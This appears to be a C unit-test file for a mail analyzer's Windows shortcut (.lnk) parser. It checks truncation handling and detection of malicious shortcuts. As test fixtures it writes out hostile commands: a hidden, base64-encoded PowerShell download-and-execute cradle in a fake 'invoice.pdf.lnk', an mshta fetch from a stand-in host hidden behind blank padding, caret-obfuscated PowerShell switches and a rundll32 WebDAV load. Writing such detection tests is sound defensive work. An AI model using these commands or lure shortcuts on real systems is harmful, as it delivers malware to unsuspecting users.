/* Unit tests for analyzers/mail/cursor.c and analyzers/payloads/lnk.c: the bounded reader,
 * the MS-SHLLINK parser on shortcuts built byte by byte here (header,
 * IDList, LinkInfo, StringData, ExtraData), every truncation of them, and
 * the analyzer through a whole message: lnk.command_execution,
 * lnk.encoded_powershell with the decoded script, padding, environment
 * target precedence and the IOCs. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "checks/analyze.h"
#include "mail/cursor.h"
#include "payloads/lnk.h"
#include "testlib.h"

#include <string.h>

/* ---- building shortcuts ---- */

static void put_u16(GByteArray *b, guint16 v)
{
	guint8 x[2] = {(guint8)v, (guint8)(v >> 8)};
	g_byte_array_append(b, x, 2);
}

static void put_u32(GByteArray *b, guint32 v)
{
	guint8 x[4] = {(guint8)v, (guint8)(v >> 8), (guint8)(v >> 16), (guint8)(v >> 24)};
	g_byte_array_append(b, x, 4);
}

static void put_u64(GByteArray *b, guint64 v)
{
	put_u32(b, (guint32)v);
	put_u32(b, (guint32)(v >> 32));
}

static void put_zeros(GByteArray *b, gsize n)
{
	for (gsize i = 0; i < n; i++)
		g_byte_array_append(b, (const guint8 *)"", 1);
}

/* ASCII text as UTF-16LE, without a terminator */
static void put_utf16(GByteArray *b, const char *s)
{
	for (; *s; s++)
		put_u16(b, (guint8)*s);
}

/* 2018-08-30T23:42:23Z as a FILETIME */
#define FILETIME_2018 ((guint64)(1535672543 + 11644473600LL) * 10000000u)

/* The 76-byte ShellLinkHeader (MS-SHLLINK 2.1). */
static GByteArray *header(guint32 flags, guint32 show)
{
	static const guint8 clsid[16] = {0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00,
	                                 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46};
	GByteArray *b = g_byte_array_new();
	put_u32(b, 0x4C);
	g_byte_array_append(b, clsid, 16);
	put_u32(b, flags);
	put_u32(b, 0x20); /* FILE_ATTRIBUTE_ARCHIVE */
	put_u64(b, FILETIME_2018);
	put_u64(b, 0);
	put_u64(b, FILETIME_2018);
	put_u32(b, 4096);
	put_u32(b, 3);
	put_u32(b, show);
	put_u16(b, 0);
	put_zeros(b, 10);
	g_assert(b->len == 76);
	return b;
}

static void put_counted(GByteArray *b, const char *s)
{
	put_u16(b, (guint16)strlen(s));
	put_utf16(b, s);
}

/* 2.5.4 EnvironmentVariablesDataBlock */
static void put_env_block(GByteArray *b, const char *target)
{
	put_u32(b, 0x314);
	put_u32(b, 0xA0000001);
	gsize n = strlen(target);
	g_byte_array_append(b, (const guint8 *)target, (guint)n);
	put_zeros(b, 260 - n);
	put_utf16(b, target);
	put_zeros(b, 520 - 2 * n);
}

/* 2.5.10 TrackerDataBlock */
static void put_tracker(GByteArray *b, const char *machine)
{
	static const guint8 guid[16] = {0x70, 0x35, 0x2D, 0xF1, 0xC2, 0x03, 0xE3, 0x43,
	                                0x86, 0xFC, 0xC7, 0x5D, 0x68, 0x07, 0x51, 0xB6};
	put_u32(b, 0x60);
	put_u32(b, 0xA0000003);
	put_u32(b, 0x58);
	put_u32(b, 0);
	gsize n = strlen(machine);
	g_byte_array_append(b, (const guint8 *)machine, (guint)n);
	put_zeros(b, 16 - n);
	for (int i = 0; i < 4; i++)
		g_byte_array_append(b, guid, 16);
}

/* A LinkTargetIDList for My Computer \ C:\ \ <dir> \ <file>, the file entry
 * items carrying only their 8.3 names (no BEEF0004 block). */
static void put_idlist(GByteArray *b, const char *dir, const char *file)
{
	static const guint8 my_computer[16] = {0xE0, 0x4F, 0xD0, 0x20, 0xEA, 0x3A, 0x69, 0x10,
	                                       0xA2, 0xD8, 0x08, 0x00, 0x2B, 0x30, 0x30, 0x9D};
	GByteArray *items = g_byte_array_new();
	put_u16(items, 20);
	guint8 root[2] = {0x1F, 0x50};
	g_byte_array_append(items, root, 2);
	g_byte_array_append(items, my_computer, 16);
	put_u16(items, 25);
	g_byte_array_append(items, (const guint8 *)"\x2F" "C:\\", 4);
	put_zeros(items, 19);
	const char *names[] = {dir, file};
	for (int i = 0; i < 2; i++) {
		gsize n = strlen(names[i]) + 1;
		gsize size = 2 + 12 + n + (n & 1);
		put_u16(items, (guint16)size);
		guint8 type[2] = {(guint8)(i == 0 ? 0x31 : 0x32), 0};
		g_byte_array_append(items, type, 2);
		put_zeros(items, 10);
		g_byte_array_append(items, (const guint8 *)names[i], (guint)n);
		put_zeros(items, n & 1);
	}
	put_u16(items, 0);
	put_u16(b, (guint16)items->len);
	g_byte_array_append(b, items->data, items->len);
	g_byte_array_unref(items);
}

/* A LinkInfo with a VolumeID (fixed drive, serial, ANSI label) and a
 * LocalBasePath, header 0x1C bytes (no Unicode offsets). */
static void put_link_info(GByteArray *b, const char *label, guint32 serial, const char *path)
{
	gsize label_n = strlen(label) + 1, path_n = strlen(path) + 1;
	guint32 vol_size = (guint32)(16 + label_n);
	guint32 vol_off = 0x1C, base_off = vol_off + vol_size;
	guint32 suffix_off = base_off + (guint32)path_n;
	guint32 size = suffix_off + 1;
	put_u32(b, size);
	put_u32(b, 0x1C);
	put_u32(b, 1); /* VolumeIDAndLocalBasePath */
	put_u32(b, vol_off);
	put_u32(b, base_off);
	put_u32(b, 0);
	put_u32(b, suffix_off);
	put_u32(b, vol_size);
	put_u32(b, 3); /* DRIVE_FIXED */
	put_u32(b, serial);
	put_u32(b, 0x10);
	g_byte_array_append(b, (const guint8 *)label, (guint)label_n);
	g_byte_array_append(b, (const guint8 *)path, (guint)path_n);
	put_zeros(b, 1);
}

/* PowerShell's -EncodedCommand form of an ASCII script: base64 of UTF-16LE. */
static char *encode_ps(const char *script)
{
	GByteArray *u = g_byte_array_new();
	put_utf16(u, script);
	char *b64 = g_base64_encode(u->data, u->len);
	g_byte_array_unref(u);
	return b64;
}

#define PS_SCRIPT "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.5/a')"

/* header + StringData (relative path, arguments) + optional env block */
static GByteArray *simple_lnk(const char *relative, const char *args, const char *env)
{
	guint32 flags = KS_LNK_IS_UNICODE | KS_LNK_HAS_RELATIVE_PATH | KS_LNK_HAS_ARGUMENTS;
	if (env)
		flags |= KS_LNK_HAS_EXP_STRING;
	GByteArray *b = header(flags, 7);
	put_counted(b, relative);
	put_counted(b, args);
	if (env)
		put_env_block(b, env);
	put_u32(b, 0);
	return b;
}

static ks_lnk *parse(GByteArray *b)
{
	GError *err = NULL;
	ks_lnk *l = ks_lnk_parse(b->data, b->len, &err);
	if (!l)
		fail_msg("not parsed: %s", err->message);
	return l;
}

/* ---- running the analyzer through a message ---- */

static ks_report *analyze_attached(GByteArray *lnk, const char *filename)
{
	g_autofree char *b64 = g_base64_encode(lnk->data, lnk->len);
	g_autofree char *eml = g_strdup_printf(
		"From: a@example.com\r\nTo: b@example.org\r\nSubject: x\r\n"
		"Date: Thu, 12 Dec 2024 06:21:30 +0000\r\nMIME-Version: 1.0\r\n"
		"Content-Type: multipart/mixed; boundary=\"BB\"\r\n\r\n"
		"--BB\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
		"--BB\r\nContent-Type: application/octet-stream; name=\"%s\"\r\n"
		"Content-Disposition: attachment; filename=\"%s\"\r\n"
		"Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--BB--\r\n",
		filename, filename, b64);
	ks_context *ctx = ks_context_new();
	GBytes *raw = g_bytes_new(eml, strlen(eml));
	GError *err = NULL;
	ks_report *r = ks_analyze_bytes(raw, "t.eml", "eml", ctx, &err);
	if (!r)
		fail_msg("analysis failed: %s", err->message);
	g_bytes_unref(raw);
	ks_context_free(ctx);
	return r;
}

static const ks_attachment *lnk_node(const ks_report *r)
{
	for (guint i = 0; i < r->attachments->len; i++) {
		const ks_attachment *a = g_ptr_array_index(r->attachments, i);
		if (a->filename && g_str_has_suffix(a->filename, ".lnk"))
			return a;
	}
	fail_msg("no .lnk attachment in the report");
	return NULL;
}

/* ---- the cursor ---- */

static void cursor_reads_little_endian_and_fails_sticky_past_the_end(void **state)
{
	(void)state;
	static const guint8 d[] = {0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07};
	ks_cursor c;
	ks_cursor_init(&c, d, sizeof d);
	guint16 a = 0;
	guint32 b = 0;
	assert_true(ks_cursor_u16le(&c, &a));
	assert_int_equal(a, 0x0201);
	assert_true(ks_cursor_u32le(&c, &b));
	assert_int_equal(b, 0x06050403);
	assert_false(ks_cursor_u16le(&c, &a));
	assert_int_equal(a, 0);
	/* sticky: a read that would fit fails too */
	guint8 x = 0xFF;
	assert_false(ks_cursor_u8(&c, &x));
	assert_int_equal(x, 0);
	GError *err = NULL;
	assert_false(ks_cursor_check(&c, "thing", &err));
	assert_string_equal(err->message, "thing: truncated at offset 6");
	g_error_free(err);
}

static void cursor_skip_and_seek_never_overflow(void **state)
{
	(void)state;
	static const guint8 d[4] = {0};
	ks_cursor c;
	ks_cursor_init(&c, d, sizeof d);
	assert_true(ks_cursor_seek(&c, 4));
	assert_int_equal(ks_cursor_remaining(&c), 0);
	ks_cursor_init(&c, d, sizeof d);
	assert_true(ks_cursor_skip(&c, 2));
	assert_false(ks_cursor_skip(&c, G_MAXSIZE));
	assert_true(c.failed);
	ks_cursor_init(&c, d, sizeof d);
	assert_false(ks_cursor_seek(&c, 5));
}

static void cursor_sub_limits_reads_to_its_window(void **state)
{
	(void)state;
	static const guint8 d[] = {1, 2, 3, 4, 5, 6};
	ks_cursor c;
	ks_cursor_init(&c, d, sizeof d);
	ks_cursor sub = ks_cursor_sub(&c, 2);
	guint16 v = 0;
	guint8 x = 0;
	assert_true(ks_cursor_u16le(&sub, &v));
	assert_false(ks_cursor_u8(&sub, &x));
	assert_true(ks_cursor_u8(&c, &x));
	assert_int_equal(x, 3);
	ks_cursor big = ks_cursor_sub(&c, 10);
	assert_true(big.failed);
	assert_true(c.failed);
}

static void cursor_strz_needs_a_terminator(void **state)
{
	(void)state;
	static const guint8 d[] = {'a', 0, 'b', 0, 0, 0, 'c'};
	ks_cursor c;
	ks_cursor_init(&c, d, sizeof d);
	const guint8 *p = NULL;
	gsize n = 0;
	assert_true(ks_cursor_strz(&c, 2, 100, &p, &n));
	assert_int_equal(n, 4);
	assert_int_equal(c.pos, 6);
	assert_false(ks_cursor_strz(&c, 1, 100, &p, &n));
	assert_null(p);
}

/* ---- the parser ---- */

static void header_gives_times_show_command_and_size(void **state)
{
	(void)state;
	GByteArray *b = header(0, 7);
	put_u32(b, 0);
	ks_lnk *l = parse(b);
	g_autofree char *created = ks_time_format(l->created);
	assert_string_equal(created, "2018-08-30T23:42:23+00:00");
	assert_null(l->accessed);
	assert_non_null(l->written);
	assert_int_equal(l->show_command, 7);
	assert_int_equal(l->file_size, 4096);
	assert_int_equal(l->icon_index, 3);
	assert_int_equal(l->problems->len, 0);
	ks_lnk_free(l);
	g_byte_array_unref(b);
}

static void not_a_shell_link_is_an_error(void **state)
{
	(void)state;
	static const guint8 junk[100] = {0x4C, 0, 0, 0, 1, 2, 3};
	GError *err = NULL;
	assert_null(ks_lnk_parse(junk, sizeof junk, &err));
	assert_non_null(strstr(err->message, "not a shell link"));
	g_error_free(err);
}

static void idlist_and_link_info_give_the_target_path(void **state)
{
	(void)state;
	GByteArray *b = header(KS_LNK_HAS_ID_LIST | KS_LNK_HAS_LINK_INFO | KS_LNK_IS_UNICODE, 1);
	put_idlist(b, "Windows", "cmd.exe");
	put_link_info(b, "OS", 0x9E31FC72, "C:\\Windows\\cmd.exe");
	put_tracker(b, "desktop-eie2fiq");
	put_u32(b, 0);
	ks_lnk *l = parse(b);
	assert_string_equal(l->idlist_path, "C:\\Windows\\cmd.exe");
	assert_int_equal(l->n_items, 4);
	assert_string_equal(l->local_base_path, "C:\\Windows\\cmd.exe");
	assert_string_equal(l->volume_label, "OS");
	assert_int_equal(l->drive_serial, 0x9E31FC72);
	assert_int_equal(l->drive_type, 3);
	assert_string_equal(l->machine_id, "desktop-eie2fiq");
	assert_string_equal(l->droid_volume, "F12D3570-03C2-43E3-86FC-C75D680751B6");
	assert_int_equal(l->problems->len, 0);
	g_autofree char *target = ks_lnk_target(l);
	assert_string_equal(target, "C:\\Windows\\cmd.exe");
	ks_lnk_free(l);
	g_byte_array_unref(b);
}

static void env_target_takes_precedence_when_has_exp_string(void **state)
{
	(void)state;
	GByteArray *b = simple_lnk("..\\notepad.exe", "/c calc", "%COMSPEC%");
	ks_lnk *l = parse(b);
	assert_string_equal(l->env_target, "%COMSPEC%");
	g_autofree char *target = ks_lnk_target(l);
	assert_string_equal(target, "%COMSPEC%");
	g_autofree char *cmd = ks_lnk_command_line(l);
	assert_string_equal(cmd, "%COMSPEC% /c calc");
	ks_lnk_free(l);
	g_byte_array_unref(b);
}

static void env_block_without_has_exp_string_is_not_the_target(void **state)
{
	(void)state;
	GByteArray *b = header(KS_LNK_IS_UNICODE | KS_LNK_HAS_RELATIVE_PATH, 1);
	put_counted(b, ".\\a.exe");
	put_env_block(b, "%COMSPEC%");
	put_u32(b, 0);
	ks_lnk *l = parse(b);
	assert_string_equal(l->env_target, "%COMSPEC%");
	g_autofree char *target = ks_lnk_target(l);
	assert_string_equal(target, ".\\a.exe");
	ks_lnk_free(l);
	g_byte_array_unref(b);
}

static void unpaired_surrogate_becomes_replacement_character(void **state)
{
	(void)state;
	GByteArray *b = header(KS_LNK_IS_UNICODE | KS_LNK_HAS_ARGUMENTS, 1);
	put_u16(b, 3);
	put_u16(b, 'a');
	put_u16(b, 0xD800);
	put_u16(b, 'b');
	put_u32(b, 0);
	ks_lnk *l = parse(b);
	assert_string_equal(l->arguments, "a\xEF\xBF\xBD" "b");
	ks_lnk_free(l);
	g_byte_array_unref(b);
}

/* Every prefix of a full shortcut parses without crashing: either the header
 * is cut ("truncated" error) or the parse records a "truncated" problem. */
static void truncated_at_every_length_reports_truncated(void **state)
{
	(void)state;
	GByteArray *b = header(KS_LNK_HAS_ID_LIST | KS_LNK_HAS_LINK_INFO | KS_LNK_IS_UNICODE |
	                               KS_LNK_HAS_ARGUMENTS | KS_LNK_HAS_EXP_STRING,
	                       7);
	put_idlist(b, "Windows", "cmd.exe");
	put_link_info(b, "OS", 1, "C:\\Windows\\cmd.exe");
	put_counted(b, "/c echo hi");
	put_env_block(b, "%COMSPEC%");
	put_tracker(b, "host");
	put_u32(b, 0);
	for (guint n = 0; n < b->len; n++) {
		guint8 *copy = g_memdup2(b->data, n); /* exact size: ASan sees overreads */
		GError *err = NULL;
		ks_lnk *l = ks_lnk_parse(copy, n, &err);
		if (!l) {
			if (!strstr(err->message, "truncated"))
				fail_msg("length %u: %s", n, err->message);
			g_error_free(err);
		} else {
			bool said = false;
			for (guint i = 0; i < l->problems->len; i++)
				said |= strstr(g_ptr_array_index(l->problems, i), "truncated") != NULL;
			if (!said)
				fail_msg("length %u of %u: no truncated problem", n, b->len);
			ks_lnk_free(l);
		}
		g_free(copy);
	}
	ks_lnk *whole = parse(b);
	assert_int_equal(whole->problems->len, 0);
	ks_lnk_free(whole);
	g_byte_array_unref(b);
}

static void lying_sizes_stay_inside_the_data(void **state)
{
	(void)state;
	GByteArray *b = header(KS_LNK_HAS_LINK_INFO | KS_LNK_IS_UNICODE | KS_LNK_HAS_ARGUMENTS, 1);
	put_u32(b, 0x40);   /* LinkInfoSize */
	put_u32(b, 0x1C);   /* header */
	put_u32(b, 3);      /* both flags */
	put_u32(b, 0x7FFF); /* VolumeIDOffset far outside */
	put_u32(b, 0x30);
	put_u32(b, 0xFFFFFFF0u);
	put_u32(b, 0x3F);
	put_zeros(b, 0x40 - 0x1C);
	put_counted(b, "-x");
	put_u32(b, 0xFFFFFFF0u); /* an ExtraData block larger than the file */
	ks_lnk *l = parse(b);
	assert_true(l->problems->len > 0);
	assert_string_equal(l->arguments, "-x");
	ks_lnk_free(l);
	g_byte_array_unref(b);
}

/* ---- the analyzer ---- */

static void encoded_powershell_decodes_the_script_and_finds_iocs(void **state)
{
	(void)state;
	g_autofree char *b64 = encode_ps(PS_SCRIPT);
	g_autofree char *args = g_strdup_printf("-NoP -W Hidden -EncodedCommand %s", b64);
	GByteArray *b = simple_lnk("..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	                           args, NULL);
	ks_report *r = analyze_attached(b, "invoice.pdf.lnk");
	const ks_finding *enc = find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL);
	assert_non_null(enc);
	assert_non_null(strstr(enc->evidence, PS_SCRIPT));
	const ks_finding *run = find_rule(r, KS_RULE_LNK_COMMAND_EXECUTION);
	assert_non_null(run);
	assert_non_null(strstr(run->evidence, "runs powershell"));
	assert_non_null(strstr(run->location, "part:"));
	assert_true(has_ioc(r, KS_IOC_URL, "http://198.51.100.5/a"));
	assert_true(has_ioc(r, KS_IOC_IP, "198.51.100.5"));
	const ks_attachment *a = lnk_node(r);
	assert_string_equal(ks_attachment_get_meta(a, "lnk_arguments"), args);
	assert_non_null(strstr(ks_attachment_get_meta(a, "lnk_show_command"), "SW_SHOWMINNOACTIVE"));
	assert_null(find_rule(r, KS_RULE_INPUT_MALFORMED));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void encoded_switch_prefixes_and_slash_are_recognised(void **state)
{
	(void)state;
	static const char *const switches[] = {"-e", "-ec", "/enc", "-ENCODEDCOMMAND", "-EncodedC"};
	g_autofree char *b64 = encode_ps("Start-Process calc");
	for (size_t i = 0; i < G_N_ELEMENTS(switches); i++) {
		g_autofree char *args = g_strdup_printf("-nop %s %s", switches[i], b64);
		GByteArray *b = simple_lnk("C:\\x\\pwsh.exe", args, NULL);
		ks_report *r = analyze_attached(b, "a.lnk");
		const ks_finding *enc = find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL);
		if (!enc)
			fail_msg("%s not recognised", switches[i]);
		assert_non_null(strstr(enc->evidence, "Start-Process calc"));
		ks_report_free(r);
		g_byte_array_unref(b);
	}
}

static void execution_policy_is_not_encoded_command(void **state)
{
	(void)state;
	GByteArray *b = simple_lnk("C:\\x\\powershell.exe", "-ex bypass -file aGVsbG8gd29ybGQ=", NULL);
	ks_report *r = analyze_attached(b, "a.lnk");
	assert_null(find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL));
	assert_non_null(find_rule(r, KS_RULE_LNK_COMMAND_EXECUTION));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void cmd_carets_and_quoted_chains_still_decode(void **state)
{
	(void)state;
	g_autofree char *b64 = encode_ps("Start-Process calc");
	/* cmd drops ^ outside quotes; cmd /c "X args" runs X args */
	g_autofree char *caret = g_strdup_printf("/c p^ow^er^shell -^e^n^c %s", b64);
	g_autofree char *quoted = g_strdup_printf("/c \"powershell.exe -nop -e %s\"", b64);
	const char *const lines[] = {caret, quoted};
	for (size_t i = 0; i < G_N_ELEMENTS(lines); i++) {
		GByteArray *b = simple_lnk("C:\\Windows\\System32\\cmd.exe", lines[i], NULL);
		ks_report *r = analyze_attached(b, "a.lnk");
		const ks_finding *enc = find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL);
		if (!enc)
			fail_msg("%s not decoded", lines[i]);
		assert_non_null(strstr(enc->evidence, "Start-Process calc"));
		const ks_finding *run = find_rule(r, KS_RULE_LNK_COMMAND_EXECUTION);
		assert_non_null(run);
		assert_non_null(strstr(run->evidence, "runs cmd -> powershell"));
		ks_report_free(r);
		g_byte_array_unref(b);
	}
	/* carets mean nothing to PowerShell itself: no unescaping there */
	g_autofree char *direct = g_strdup_printf("-^e^n^c %s", b64);
	GByteArray *b = simple_lnk("C:\\x\\powershell.exe", direct, NULL);
	ks_report *r = analyze_attached(b, "a.lnk");
	assert_null(find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void unc_host_in_arguments_is_an_ioc(void **state)
{
	(void)state;
	GByteArray *b = simple_lnk("C:\\Windows\\System32\\rundll32.exe",
	                           "\\\\files.example.net@SSL\\dav\\x.dll,Run C:\\\\tmp\\\\a.ps1", NULL);
	ks_report *r = analyze_attached(b, "a.lnk");
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "files.example.net"));
	assert_false(has_ioc(r, KS_IOC_DOMAIN, "a.ps1"));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void padded_arguments_are_flagged_and_tail_kept_in_evidence(void **state)
{
	(void)state;
	g_autoptr(GString) args = g_string_new(NULL);
	for (int i = 0; i < 250; i++)
		g_string_append_c(args, ' ');
	g_string_append(args, "\r\n/c mshta http://evil.example/x.hta");
	GByteArray *b = simple_lnk("C:\\Windows\\System32\\cmd.exe", args->str, NULL);
	ks_report *r = analyze_attached(b, "a.lnk");
	const ks_attachment *a = lnk_node(r);
	assert_string_equal(ks_attachment_get_meta(a, "lnk_padding"), "252");
	const ks_finding *run = find_rule(r, KS_RULE_LNK_COMMAND_EXECUTION);
	assert_non_null(run);
	assert_non_null(strstr(run->evidence, "runs cmd -> mshta"));
	/* the run in the command line: the separator after the target + 252 */
	assert_non_null(strstr(run->evidence, "[253 blanks]"));
	assert_non_null(strstr(run->evidence, "mshta http://evil.example/x.hta"));
	assert_non_null(strstr(run->evidence, "padded with 252 blanks and line breaks"));
	assert_true(has_ioc(r, KS_IOC_URL, "http://evil.example/x.hta"));
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "evil.example"));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void env_target_decides_command_execution(void **state)
{
	(void)state;
	/* the static path says notepad, the environment block (preferred by
	 * Windows) says cmd */
	GByteArray *b = simple_lnk("..\\notepad.exe", "/c whoami", "%windir%\\system32\\cmd.exe");
	ks_report *r = analyze_attached(b, "a.lnk");
	const ks_attachment *a = lnk_node(r);
	assert_string_equal(ks_attachment_get_meta(a, "lnk_runs"),
	                    "%windir%\\system32\\cmd.exe /c whoami");
	assert_string_equal(ks_attachment_get_meta(a, "lnk_target"), "..\\notepad.exe");
	assert_non_null(find_rule(r, KS_RULE_LNK_COMMAND_EXECUTION));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void ordinary_shortcut_raises_nothing(void **state)
{
	(void)state;
	GByteArray *b = simple_lnk("C:\\Program Files\\App\\app.exe", "--profile work", NULL);
	ks_report *r = analyze_attached(b, "a.lnk");
	assert_null(find_rule(r, KS_RULE_LNK_COMMAND_EXECUTION));
	assert_null(find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL));
	assert_null(find_rule(r, KS_RULE_INPUT_MALFORMED));
	const ks_attachment *a = lnk_node(r);
	assert_string_equal(ks_attachment_get_meta(a, "lnk_runs"),
	                    "\"C:\\Program Files\\App\\app.exe\" --profile work");
	assert_null(ks_attachment_get_meta(a, "lnk_padding"));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void named_lnk_that_is_not_one_is_malformed(void **state)
{
	(void)state;
	GByteArray *b = g_byte_array_new();
	g_byte_array_append(b, (const guint8 *)"MZ this is not a shortcut", 25);
	ks_report *r = analyze_attached(b, "a.lnk");
	const ks_finding *f = find_rule(r, KS_RULE_INPUT_MALFORMED);
	assert_non_null(f);
	assert_non_null(strstr(f->evidence, "shortcut unreadable"));
	ks_report_free(r);
	g_byte_array_unref(b);
}

static void truncated_attachment_is_malformed_but_keeps_what_was_read(void **state)
{
	(void)state;
	g_autofree char *b64 = encode_ps(PS_SCRIPT);
	g_autofree char *args = g_strdup_printf("-enc %s", b64);
	GByteArray *b = simple_lnk("C:\\w\\powershell.exe", args, NULL);
	g_byte_array_set_size(b, b->len - 4); /* drop the terminal block */
	ks_report *r = analyze_attached(b, "a.lnk");
	const ks_finding *f = find_rule(r, KS_RULE_INPUT_MALFORMED);
	assert_non_null(f);
	assert_non_null(strstr(f->evidence, "truncated"));
	assert_non_null(find_rule(r, KS_RULE_LNK_ENCODED_POWERSHELL));
	ks_report_free(r);
	g_byte_array_unref(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(cursor_reads_little_endian_and_fails_sticky_past_the_end),
		cmocka_unit_test(cursor_skip_and_seek_never_overflow),
		cmocka_unit_test(cursor_sub_limits_reads_to_its_window),
		cmocka_unit_test(cursor_strz_needs_a_terminator),
		cmocka_unit_test(header_gives_times_show_command_and_size),
		cmocka_unit_test(not_a_shell_link_is_an_error),
		cmocka_unit_test(idlist_and_link_info_give_the_target_path),
		cmocka_unit_test(env_target_takes_precedence_when_has_exp_string),
		cmocka_unit_test(env_block_without_has_exp_string_is_not_the_target),
		cmocka_unit_test(unpaired_surrogate_becomes_replacement_character),
		cmocka_unit_test(truncated_at_every_length_reports_truncated),
		cmocka_unit_test(lying_sizes_stay_inside_the_data),
		cmocka_unit_test(encoded_powershell_decodes_the_script_and_finds_iocs),
		cmocka_unit_test(encoded_switch_prefixes_and_slash_are_recognised),
		cmocka_unit_test(execution_policy_is_not_encoded_command),
		cmocka_unit_test(cmd_carets_and_quoted_chains_still_decode),
		cmocka_unit_test(unc_host_in_arguments_is_an_ioc),
		cmocka_unit_test(padded_arguments_are_flagged_and_tail_kept_in_evidence),
		cmocka_unit_test(env_target_decides_command_execution),
		cmocka_unit_test(ordinary_shortcut_raises_nothing),
		cmocka_unit_test(named_lnk_that_is_not_one_is_malformed),
		cmocka_unit_test(truncated_attachment_is_malformed_but_keeps_what_was_read),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
